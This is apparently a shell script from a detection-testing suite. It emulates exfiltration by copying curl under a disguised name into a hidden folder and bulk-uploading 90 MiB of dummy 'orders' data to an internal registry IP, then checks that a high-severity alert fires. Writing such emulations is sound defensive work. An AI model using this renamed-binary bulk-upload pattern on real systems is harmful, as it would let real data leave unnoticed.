#!/bin/sh
# Emulates scenario egress-registry-ip-from-argv (examples/scenarios/egress-registry-ip-from-argv.yaml):
# An unknown binary streams 90 MiB to a registry IP it was given on its command line.
#
# Safe version: a copy of curl under a made-up name streams 90 MiB of random "orders" to the in-namespace
# registry's IP (the upload endpoint answers with an error; the bytes have been sent by then).
#
# Image: curlimages/curl:8.11.1
# Expected alert: bulk-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need curl head getent
emu_check_target "$EMU_REGISTRY"
registry_host=${EMU_REGISTRY%:*}
registry_port=${EMU_REGISTRY##*:}
registry_ip=$(getent hosts "$registry_host" | cut -d' ' -f1)
[ -n "$registry_ip" ] || emu_die "cannot resolve $registry_host"
work="$EMU_WORKDIR/egress-registry-ip-from-argv"
rm -rf "$work"
mkdir -p "$work/.cache"
cp "$(command -v curl)" "$work/.cache/syncd"
emu_dummy_files "$work/srv/orders" 90 90
cat "$work"/srv/orders/* >"$work/orders.bin"
"$work/.cache/syncd" -sS -o /dev/null -X POST --data-binary "@$work/orders.bin" \
  "http://$registry_ip:$registry_port/v2/shop-sync/blobs/uploads/" || true
rm -rf "$work"
emu_expect bulk-read-then-push high
